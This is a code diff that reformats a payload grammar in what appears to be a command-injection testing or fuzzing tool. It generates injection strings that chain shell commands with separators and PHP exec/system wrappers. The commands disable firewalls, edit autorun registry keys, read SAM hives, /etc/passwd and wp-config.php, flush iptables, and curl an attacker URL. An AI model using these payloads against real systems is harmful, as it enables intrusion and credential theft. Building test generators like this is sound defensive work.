@@ -372,8 +372,26 @@ export const contextTemplates = family('command-injection/context', {
   placeholder: text`${argument}${separator}${blank}${oneOf('{cmd}', 'CMD=$"{cmd}";$CMD', "CMD=$'{cmd}';$CMD", '{command}')}${ending}`,
   'plus-for-blanks': text`${oneOf('|', ';', '||', '&&', '+|+', '+;+', '+||+', '$+|+', ';+')}${altered(command, (written) => written.replaceAll(' ', '+'))}${ending}`,
   'plus-for-blanks-windows': text`${oneOf('|', '||', '&&', '&', '+|+', '$&&', '$+|+', '+&+')}${words('dir type net+view net+user ver ipconfig+/all whoami')}${oneOf('', '+c:\\', '+c:/', '+..\\', '+c:\\boot.ini')}`,
-  'administration': appended(oneOf(text`netsh ${oneOf('firewall set opmode disable', 'advfirewall set allprofiles state off', 'wlan show profiles')}`, text`reg ${words('add query delete')} "HKLM\\${oneOf('System\\CurrentControlSet\\Control\\Terminal Server', 'SAM', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run')}"${maybe(text` /v ${lowerWord} /t REG_DWORD /d ${integer(0, 1)} /f`)}`, text`type ${oneOf('%SYSTEMROOT%', 'C:\\Windows')}\\${words('repair\\SAM repair\\SYSTEM win.ini System32\\config\\RegBack\\SAM')}`, text`net ${words('user localgroup share start␣telnet stop␣firewall group')} ${maybe(lowerWord)}`, text`dir ${oneOf('C:\\', 'C:\\Users', 'C:\\Documents and Settings\\', '%SYSTEMROOT%')}`, text`which ${words('nc netcat perl python wget curl gcc php')}`, text`ls -lhtR ${words('/var/www/ /home /root /')}`, text`find / ${words('-perm␣-4000 -name␣*.conf')} ${maybe('2>/dev/null')}`, text`cat ${words('config.php index.php wp-config.php .htaccess ../config.php database.yml')}`, text`iptables ${words('-F -L')}`, text`passwd ${lowerWord}`, text`echo ${letters('XA', 1)}${repeat('X', 20, 120)}`, text`perl -e 'print "X"x${integer(1000, 20_000)}'`, 'sysinfo', 'systeminfo | findstr /B /C:"OS Name"')),
-  'function-call': text`${maybe(oneOf(';', '${', "'.", ')'))}${words('system exec eval passthru shell_exec popen System Exec')}(${same(oneOf("'", '"', '`'), (quote) => text`${quote}${oneOf(simpleCommand, fetcher, text`cat ${words('config.php /etc/passwd index.php')}`, text`echo ${letters(LOWER, 3, 90)}`, text`curl ${attackerUrl}`, 'ls -al /', 'pwd')}${quote}`)})${maybe(oneOf(';', "}", '.\'', '#'))}`,
+  administration: appended(
+    oneOf(
+      text`netsh ${oneOf('firewall set opmode disable', 'advfirewall set allprofiles state off', 'wlan show profiles')}`,
+      text`reg ${words('add query delete')} "HKLM\\${oneOf('System\\CurrentControlSet\\Control\\Terminal Server', 'SAM', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run')}"${maybe(text` /v ${lowerWord} /t REG_DWORD /d ${integer(0, 1)} /f`)}`,
+      text`type ${oneOf('%SYSTEMROOT%', 'C:\\Windows')}\\${words('repair\\SAM repair\\SYSTEM win.ini System32\\config\\RegBack\\SAM')}`,
+      text`net ${words('user localgroup share start␣telnet stop␣firewall group')} ${maybe(lowerWord)}`,
+      text`dir ${oneOf('C:\\', 'C:\\Users', 'C:\\Documents and Settings\\', '%SYSTEMROOT%')}`,
+      text`which ${words('nc netcat perl python wget curl gcc php')}`,
+      text`ls -lhtR ${words('/var/www/ /home /root /')}`,
+      text`find / ${words('-perm␣-4000 -name␣*.conf')} ${maybe('2>/dev/null')}`,
+      text`cat ${words('config.php index.php wp-config.php .htaccess ../config.php database.yml')}`,
+      text`iptables ${words('-F -L')}`,
+      text`passwd ${lowerWord}`,
+      text`echo ${letters('XA', 1)}${repeat('X', 20, 120)}`,
+      text`perl -e 'print "X"x${integer(1000, 20_000)}'`,
+      'sysinfo',
+      'systeminfo | findstr /B /C:"OS Name"'
+    )
+  ),
+  'function-call': text`${maybe(oneOf(';', '${', "'.", ')'))}${words('system exec eval passthru shell_exec popen System Exec')}(${same(oneOf("'", '"', '`'), (quote) => text`${quote}${oneOf(simpleCommand, fetcher, text`cat ${words('config.php /etc/passwd index.php')}`, text`echo ${letters(LOWER, 3, 90)}`, text`curl ${attackerUrl}`, 'ls -al /', 'pwd')}${quote}`)})${maybe(oneOf(';', '}', ".'", '#'))}`,
   'function-call-in-code': text`${oneOf('1;', "';", '";', 'x);', '<?php ', 'a.', '{${')}${words('system exec eval passthru shell_exec')}(${same(oneOf("'", '"'), (quote) => text`${quote}${command}${quote}`)})${oneOf(';', ';//', '}}', ';?>', ";'")}`,
   'bare-ping': text`ping${maybe('.exe')} ${oneOf('-c', '-n', '-i')} ${integer(2, 40)} ${oneOf('127.0.0.1', 'localhost', attackerHost)}${maybe(oneOf('|rem', '|', '&', ';'))}`,
   'line-ends-around': text`${oneOf('%0a', '\n', '\\n', '%0d', '\r\n', '%0d%0a', '\n ')}${maybe(' ')}${oneOf(simpleCommand, probe)}${maybe(' ')}${oneOf('%0a', '\n', '\\n', ' #', '#', '%0d')}`,
